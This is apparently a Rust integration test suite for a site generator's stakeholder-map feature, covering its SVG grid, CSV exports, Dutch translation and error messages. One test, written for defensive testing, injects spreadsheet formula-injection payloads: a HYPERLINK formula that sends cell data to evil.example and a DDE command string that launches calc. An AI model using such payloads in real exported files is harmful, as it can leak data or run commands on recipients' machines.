//! Stakeholder maps: the data block becomes an inline SVG power/interest grid (no label covers
//! another label or a marker), a table by quadrant and a list of missing groups; the map is
//! published as SVG and CSV; bad data fails with its place in the file; a group site.toml
//! requires is a warning for build and an error for check. That the bundled map prints on one
//! page is tested in tests/browser/stakeholders.rs.

use std::collections::BTreeMap;

use pretty_assertions::assert_eq;
use scraper::{Html, Selector};
use toolkit::kinds::stakeholders::layout::{FONT, LINE, RADIUS, Rect, text_width};

use crate::harness::{Site, fails_with, fixtures};

fn built() -> Site {
    let site = Site::fixture("stakeholders");
    site.run(&["build", "--quiet"]).success();
    site
}

fn select<'a>(html: &'a Html, css: &str) -> Vec<scraper::ElementRef<'a>> {
    html.select(&Selector::parse(css).unwrap()).collect()
}

fn text(element: &scraper::ElementRef<'_>) -> String {
    element.text().collect::<String>().trim().to_string()
}

const NAMES: [&str; 5] = [
    "Team manager",
    "Board of directors",
    "Sceptical therapists",
    "Patients with chronic pain or chronic fatigue",
    "Medical specialists (pain clinic, rehabilitation)",
];

#[test]
fn the_map_is_an_inline_svg_with_title_desc_labels_quadrants_legend_and_table() {
    let site = built();
    let page = site.read("public/map/index.html");
    let html = Html::parse_document(&page);
    // The data block is not shown as code; the prose around it stays.
    assert!(!page.contains("[[stakeholder]]"), "the TOML is shown");
    assert!(page.contains("<p>Prose before the map stays.</p>"));
    assert!(page.contains("<p>Prose after the map stays too.</p>"));
    let svg = select(
        &html,
        "figure.stakeholder-map-figure > .stakeholder-map-scroll > svg",
    );
    assert_eq!(svg.len(), 1);
    let svg = &svg[0];
    assert_eq!(svg.value().attr("role"), Some("img"));
    assert_eq!(
        svg.value().attr("aria-labelledby"),
        Some("stakeholder-map-title stakeholder-map-desc")
    );
    assert_eq!(
        text(&select(&html, "svg > title#stakeholder-map-title")[0]),
        "Stakeholder map: influence and interest"
    );
    let desc = text(&select(&html, "svg > desc#stakeholder-map-desc")[0]);
    assert!(
        desc.starts_with("A power–interest grid of 5 stakeholders."),
        "{desc}"
    );
    assert!(
        desc.contains("Manage closely: Team manager (Supporter), Sceptical therapists (Sceptic), Patients with chronic pain or chronic fatigue (Unknown)."),
        "{desc}"
    );
    // Every stakeholder is labelled (its name, maybe over several lines) with its stance.
    let labels: Vec<String> = select(&html, "g.stakeholder > text")
        .iter()
        .map(|t| t.text().collect::<Vec<_>>().join(" ").replace("- ", ""))
        .collect();
    assert_eq!(labels, NAMES);
    let stances: Vec<&str> = select(&html, "g.stakeholder")
        .iter()
        .map(|g| g.value().attr("data-stance").unwrap())
        .collect();
    assert_eq!(
        stances,
        ["supporter", "neutral", "sceptic", "unknown", "unknown"]
    );
    let quadrants: Vec<String> = select(&html, "text.quadrant-name")
        .iter()
        .map(text)
        .collect();
    assert_eq!(
        quadrants,
        [
            "Manage closely",
            "Keep satisfied",
            "Keep informed",
            "Monitor"
        ]
    );
    let legend = text(&select(&html, "g.legend")[0]);
    assert_eq!(legend, "Stance:SupporterNeutralScepticUnknown");
    // The table: by quadrant, with the actions and owners.
    let groups: Vec<String> = select(&html, ".stakeholder-table tr.quadrant-row")
        .iter()
        .map(text)
        .collect();
    assert_eq!(groups, ["Manage closely", "Keep satisfied", "Monitor"]);
    let rows: Vec<String> = select(&html, ".stakeholder-table tbody tr:not(.quadrant-row)")
        .iter()
        .map(|tr| {
            tr.children()
                .filter_map(scraper::ElementRef::wrap)
                .map(|c| text(&c))
                .collect::<Vec<_>>()
                .join(" | ")
        })
        .collect();
    assert_eq!(
        rows,
        [
            "Team managerManagement | 5 | 4 | Supporter | Inner setting | Plan feedback time (Owner: Lead)Put ICBT on the agenda, monthly (Owner: Team manager)",
            "Sceptical therapistsTherapists | 4 | 4 | Sceptic | Process | Ask what worries them (Owner: Champion)",
            "Patients with chronic pain or chronic fatiguePatients | 4 | 4 | Unknown | Process | Ask former patients to review the texts (Owner: Lead)",
            "Board of directorsBoard | 5 | 2 | Neutral | Inner setting | Ask for a \"written\" decision (Owner: Lead)",
            "Medical specialists (pain clinic, rehabilitation)Referrers and GPs | 1 | 2 | Unknown | Process | Send the leaflet (Owner: Champion)",
        ]
    );
    // Who is missing: the groups not on the map; none of them is required here.
    let missing: Vec<String> = select(&html, ".stakeholders-missing li")
        .iter()
        .map(text)
        .collect();
    assert!(
        missing.contains(&"Informal leader".to_string()),
        "{missing:?}"
    );
    assert!(
        !missing.iter().any(|m| m.starts_with("Patients")),
        "{missing:?}"
    );
    // Downloads beside the page, and the print stylesheet.
    let downloads: Vec<&str> = select(&html, ".downloads a")
        .iter()
        .map(|a| a.value().attr("href").unwrap())
        .collect();
    assert_eq!(
        downloads,
        ["/kit/map/map.svg", "/kit/map/map.csv", "/kit/map/map.xlsx"]
    );
    assert_eq!(
        select(
            &html,
            "link[rel=stylesheet][href=\"/kit/stakeholders.css\"]"
        )
        .len(),
        1
    );
    assert!(site.root.join("public/stakeholders.css").is_file());
    // The map needs no script: the only ones are the site's search box, header menu and
    // offline copy.
    let scripts: Vec<String> = select(&html, "script")
        .iter()
        .map(|s| s.value().attr("src").unwrap_or("inline").to_string())
        .collect();
    assert_eq!(
        scripts,
        ["/kit/search.js", "/kit/menu.js", "/kit/offline.js"],
        "the map page loads a script"
    );
}

#[test]
fn the_dutch_map_uses_dutch_words() {
    let site = built();
    let html = Html::parse_document(&site.read("public/nl/map/index.html"));
    assert_eq!(
        text(&select(&html, "svg > title")[0]),
        "Stakeholderkaart: invloed en belang"
    );
    let quadrants: Vec<String> = select(&html, "text.quadrant-name")
        .iter()
        .map(text)
        .collect();
    assert_eq!(
        quadrants,
        ["Nauw betrekken", "Tevreden houden", "Informeren", "Volgen"]
    );
    assert_eq!(
        text(&select(&html, "g.legend")[0]),
        "Houding:VoorstanderNeutraalSceptischOnbekend"
    );
    assert_eq!(
        text(&select(&html, ".stakeholder-table tbody td")[3]),
        "Interne context"
    );
}

/// The boxes the layout promised, read back from the SVG: a label's box from its position, line
/// count and the layout's own width estimate; a marker's from its shape.
fn boxes(svg: &roxmltree::Document<'_>) -> Vec<(String, Rect, Rect)> {
    let number =
        |n: roxmltree::Node<'_, '_>, a: &str| -> f64 { n.attribute(a).unwrap().parse().unwrap() };
    svg.descendants()
        .filter(|n| n.attribute("class") == Some("stakeholder"))
        .map(|g| {
            let text = g.children().find(|c| c.has_tag_name("text")).unwrap();
            let lines: Vec<&str> = text
                .children()
                .filter(|c| c.has_tag_name("tspan"))
                .map(|t| t.text().unwrap_or(""))
                .collect();
            let baseline = number(text, "y");
            let label = Rect {
                x: number(text, "x"),
                y: baseline - LINE / 2.0 - FONT * 0.35,
                w: lines
                    .iter()
                    .map(|l| text_width(l, FONT))
                    .fold(0.0, f64::max),
                h: lines.len() as f64 * LINE,
            };
            let shape = g
                .children()
                .find(|c| c.is_element() && !c.has_tag_name("title") && !c.has_tag_name("text"))
                .unwrap();
            let (cx, cy) = match shape.tag_name().name() {
                "circle" => (number(shape, "cx"), number(shape, "cy")),
                "rect" => (
                    number(shape, "x") + number(shape, "width") / 2.0,
                    number(shape, "y") + number(shape, "height") / 2.0,
                ),
                _ => {
                    let d = shape.attribute("d").unwrap();
                    let mut parts = d[1..].split_whitespace();
                    let x: f64 = parts.next().unwrap().parse().unwrap();
                    let y: f64 = parts.next().unwrap().parse().unwrap();
                    (x, y + RADIUS)
                }
            };
            let marker = Rect {
                x: cx - RADIUS,
                y: cy - RADIUS,
                w: 2.0 * RADIUS,
                h: 2.0 * RADIUS,
            };
            (lines.join(" "), label, marker)
        })
        .collect()
}

#[test]
fn the_svg_download_is_standalone_xml_and_no_label_covers_another() {
    let site = built();
    let bytes = site.read("public/map/map.svg");
    assert!(bytes.starts_with(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\""
    ));
    let doc = roxmltree::Document::parse(&bytes).expect("the SVG is well-formed XML");
    let root = doc.root_element();
    assert_eq!(
        root.tag_name().namespace(),
        Some("http://www.w3.org/2000/svg")
    );
    assert_eq!(root.attribute("role"), Some("img"));
    let title = root.children().find(|c| c.has_tag_name("title")).unwrap();
    assert_eq!(title.text(), Some("Our map: influence and interest"));
    let found = boxes(&doc);
    assert_eq!(found.len(), NAMES.len());
    for (i, (a, label_a, marker_a)) in found.iter().enumerate() {
        assert!(
            !label_a.overlaps(marker_a),
            "{a}: its label covers its marker"
        );
        for (b, label_b, marker_b) in &found[i + 1..] {
            assert!(
                !label_a.overlaps(label_b),
                "the labels of {a} and {b} overlap"
            );
            assert!(
                !label_a.overlaps(marker_b),
                "{a}'s label covers {b}'s marker"
            );
            assert!(
                !label_b.overlaps(marker_a),
                "{b}'s label covers {a}'s marker"
            );
            assert!(
                !marker_a.overlaps(marker_b),
                "the markers of {a} and {b} overlap"
            );
        }
    }
    // The page's inline map is the same drawing, titled with the map's heading.
    let page = site.read("public/map/index.html");
    let start = page.find("<svg").unwrap();
    let end = page.find("</svg>").unwrap() + "</svg>\n".len();
    let inline = &page[start..end];
    assert_eq!(
        inline.replace("Stakeholder map: influence", "Our map: influence"),
        bytes.split_once('\n').unwrap().1
    );
}

#[test]
fn the_csv_has_a_row_per_action_by_quadrant_in_utf8_with_a_byte_order_mark() {
    let site = built();
    let bytes = std::fs::read(site.root.join("public/map/map.csv")).unwrap();
    let expected = "\u{feff}Quadrant,Stakeholder,Group,Influence,Interest,Stance,CFIR domain,Action,Owner\r\n\
Manage closely,Team manager,Management,5,4,Supporter,Inner setting,Plan feedback time,Lead\r\n\
Manage closely,Team manager,Management,5,4,Supporter,Inner setting,\"Put ICBT on the agenda, monthly\",Team manager\r\n\
Manage closely,Sceptical therapists,Therapists,4,4,Sceptic,Process,Ask what worries them,Champion\r\n\
Manage closely,Patients with chronic pain or chronic fatigue,Patients,4,4,Unknown,Process,Ask former patients to review the texts,Lead\r\n\
Keep satisfied,Board of directors,Board,5,2,Neutral,Inner setting,\"Ask for a \"\"written\"\" decision\",Lead\r\n\
Monitor,\"Medical specialists (pain clinic, rehabilitation)\",Referrers and GPs,1,2,Unknown,Process,Send the leaflet,Champion\r\n";
    assert_eq!(String::from_utf8(bytes).unwrap(), expected);
    // Dutch Excel separates fields with semicolons: a comma-separated file opens in one column.
    // A comma inside a cell needs no quotes then; a semicolon would.
    let dutch = std::fs::read(site.root.join("public/nl/map/map.csv")).unwrap();
    let expected = "\u{feff}Kwadrant;Stakeholder;Groep;Invloed;Belang;Houding;CFIR-domein;Actie;Eigenaar\r\n\
Nauw betrekken;Team manager;Management;5;4;Voorstander;Interne context;Plan feedback time;Lead\r\n\
Nauw betrekken;Team manager;Management;5;4;Voorstander;Interne context;Put ICBT on the agenda, monthly;Team manager\r\n\
Nauw betrekken;Sceptical therapists;Behandelaars;4;4;Sceptisch;Proces;Ask what worries them;Champion\r\n\
Nauw betrekken;Patients with chronic pain or chronic fatigue;Patiënten;4;4;Onbekend;Proces;Ask former patients to review the texts;Lead\r\n\
Tevreden houden;Board of directors;Bestuur;5;2;Neutraal;Interne context;\"Ask for a \"\"written\"\" decision\";Lead\r\n\
Volgen;Medical specialists (pain clinic, rehabilitation);Verwijzers en huisartsen;1;2;Onbekend;Proces;Send the leaflet;Champion\r\n";
    assert_eq!(String::from_utf8(dutch).unwrap(), expected);
}

#[test]
fn csv_cells_that_could_run_as_formulas_are_written_as_text() {
    let site = Site::fixture("stakeholders");
    let map = site.read("content/map.md").replace(
        r#"{ action = "Plan feedback time", owner = "Lead" }"#,
        r#"{ action = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", owner = "@SUM(1+1)*cmd|' /C calc'!A0" }"#,
    );
    site.write(
        "content/map.md",
        &map.replace("\"Board of directors\"", "\"+Board\""),
    );
    site.run(&["build", "--quiet"]).success();
    let csv = site.read("public/map/map.csv");
    for row in [
        "Manage closely,Team manager,Management,5,4,Supporter,Inner setting,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0\r\n",
        "Keep satisfied,'+Board,Board,5,2,",
    ] {
        assert!(csv.contains(row), "{csv}");
    }
}

/// The quadrants of the drawn map, by class, as x, y, width and height.
fn quadrant_rects(svg: &str) -> BTreeMap<String, [f64; 4]> {
    let doc = roxmltree::Document::parse(svg).unwrap();
    doc.descendants()
        .filter(|n| n.has_tag_name("rect"))
        .filter_map(|n| {
            let class = n.attribute("class")?.strip_prefix("quadrant quadrant-")?;
            let number = |a: &str| n.attribute(a).unwrap().parse::<f64>().unwrap();
            Some((
                class.to_string(),
                [number("x"), number("y"), number("width"), number("height")],
            ))
        })
        .collect()
}

/// The four quadrants are drawn the same size, also when one half of the grid holds many more
/// stakeholders than the other; and the line under the map says which scores count as high.
#[test]
fn the_quadrants_are_drawn_equal_and_the_page_says_which_scores_are_high() {
    let site = built();
    let check = |svg: &str| {
        let rects = quadrant_rects(svg);
        assert_eq!(
            rects.keys().collect::<Vec<_>>(),
            ["informed", "manage", "monitor", "satisfied"]
        );
        let [_, _, w, h] = rects["manage"];
        for (name, [_, _, width, height]) in &rects {
            assert!(
                (width - w).abs() <= 0.1,
                "{name}: width {width} against {w}"
            );
            assert!(
                (height - h).abs() <= 0.1,
                "{name}: height {height} against {h}"
            );
        }
        // They tile the plot: manage and satisfied on top, satisfied and monitor on the left.
        assert_eq!(rects["satisfied"][0], rects["monitor"][0]);
        assert!((rects["satisfied"][0] + w - rects["manage"][0]).abs() <= 0.1);
        assert!((rects["manage"][1] + h - rects["informed"][1]).abs() <= 0.1);
    };
    check(&site.read("public/map/map.svg"));
    let html = Html::parse_document(&site.read("public/map/index.html"));
    let scale: Vec<String> = select(
        &html,
        "figure.stakeholder-map-figure > figcaption > .stakeholder-scale",
    )
    .iter()
    .map(text)
    .collect();
    assert_eq!(
        scale,
        ["Scores from 3 to 5 count as high, from 1 to 2 as low."]
    );
    let dutch = Html::parse_document(&site.read("public/nl/map/index.html"));
    let scale: Vec<String> = select(
        &dutch,
        "figure.stakeholder-map-figure > figcaption > .stakeholder-scale",
    )
    .iter()
    .map(text)
    .collect();
    assert_eq!(
        scale,
        ["Scores van 3 tot en met 5 tellen als hoog, van 1 tot en met 2 als laag."]
    );
    let desc = site.read("public/map/map.svg");
    assert!(
        desc.contains("on the right. Scores from 3 to 5 count as high, from 1 to 2 as low."),
        "{desc}"
    );

    // Eight more stakeholders in the low-influence, low-interest cell.
    let extra: String = (1..=8)
        .map(|n| format!("\n[[stakeholder]]\nname = \"Extra {n}\"\ngroup = \"other\"\ninfluence = 1\ninterest = 1\nstance = \"neutral\"\ndomain = \"process\"\nactions = [{{ action = \"Inform\", owner = \"Lead\" }}]\n"))
        .collect();
    let map = site.read("content/map.md");
    let end = map.rfind("```").unwrap();
    site.write(
        "content/map.md",
        &format!("{}{extra}{}", &map[..end], &map[end..]),
    );
    site.run(&["build", "--quiet"]).success();
    check(&site.read("public/map/map.svg"));
}

#[test]
fn a_control_character_in_a_name_leaves_the_svg_well_formed() {
    let site = Site::fixture("stakeholders");
    let map = site.read("content/map.md").replace(
        r#"name = "Board of directors""#,
        r#"name = "Board\u0000board\u0007""#,
    );
    site.write("content/map.md", &map);
    site.run(&["build", "--quiet"]).success();
    let svg = site.read("public/map/map.svg");
    roxmltree::Document::parse(&svg).expect("the SVG is well-formed XML");
    assert!(svg.contains(">Board\u{fffd}board\u{fffd}<"), "{svg}");
    assert!(!svg.contains(['\u{0}', '\u{7}']));
    let page = site.read("public/map/index.html");
    assert!(!page.contains(['\u{0}', '\u{7}']));
}

#[test]
fn bad_maps_fail_with_their_place_in_the_file() {
    fails_with("errors/stakeholders", &["build"], 1);
}

#[test]
fn a_missing_required_group_is_a_warning_for_build_and_an_error_for_check() {
    let site = Site::fixture("errors/stakeholders-required");
    let warning = "content/map.md:6:1: warning: this stakeholder map has nobody of the group `management`, which site.toml requires
  hint: add a [[stakeholder]] with group = \"management\" (required_groups in [stakeholders] of site.toml lists the groups every map needs)
content/map.md:6:1: warning: this stakeholder map has nobody of the group `patients`, which site.toml requires
  hint: add a [[stakeholder]] with group = \"patients\" (required_groups in [stakeholders] of site.toml lists the groups every map needs)
";
    let run = site.run(&["build", "--quiet"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.stderr, warning);
    assert!(site.root.join("public/map/index.html").is_file());
    let page = site.read("public/map/index.html");
    let html = Html::parse_document(&page);
    let required: Vec<String> = select(&html, ".stakeholders-missing li.required")
        .iter()
        .map(text)
        .collect();
    assert_eq!(required, ["Management (required)", "Patients (required)"]);
    let run = site.run(&["build"]);
    assert!(run.stderr.contains(" (2 warnings)\n"), "{}", run.stderr);
    crate::harness::check_failure(&site, "errors/stakeholders-required", &["check"], 1);
    let expected =
        std::fs::read_to_string(fixtures().join("errors/stakeholders-required/stderr.txt"))
            .unwrap();
    assert!(expected.contains("error: check failed: 2 errors"));
}

#[test]
fn an_unknown_required_group_is_named_at_its_place_in_site_toml() {
    let site = Site::fixture("stakeholders");
    let config = site.read("site.toml");
    site.write(
        "site.toml",
        &config.replace(
            "required_groups = [\"patients\"]",
            "required_groups = [\"patient\"]",
        ),
    );
    let run = site.run(&["check"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(
        run.stderr.starts_with("site.toml:14:20: error: unknown stakeholder group `patient`\n  hint: did you mean \"patients\"? the groups are: "),
        "{}",
        run.stderr
    );
}

#[test]
fn a_misspelt_key_or_a_wrong_type_in_the_stakeholders_section_is_named_at_its_place() {
    let site = Site::fixture("stakeholders");
    let config = site.read("site.toml");
    site.write(
        "site.toml",
        &config.replace(
            "required_groups = [\"patients\"]",
            "required_group = [\"patients\"]",
        ),
    );
    let run = site.run(&["check"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        run.stderr,
        "site.toml:14:1: error: unknown key `required_group` in [stakeholders]\n  \
         hint: did you mean `required_groups`? [stakeholders] knows `required_groups`\n\
         error: check failed: 1 error\n"
    );
    site.write(
        "site.toml",
        &config.replace(
            "required_groups = [\"patients\"]",
            "required_groups = \"patients\"",
        ),
    );
    let run = site.run(&["check"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(
        run.stderr,
        "site.toml:14:19: error: expected a list, found the text \"patients\"\n  \
         hint: write a list in square brackets: [\"a\", \"b\"]\n\
         error: check failed: 1 error\n"
    );
}
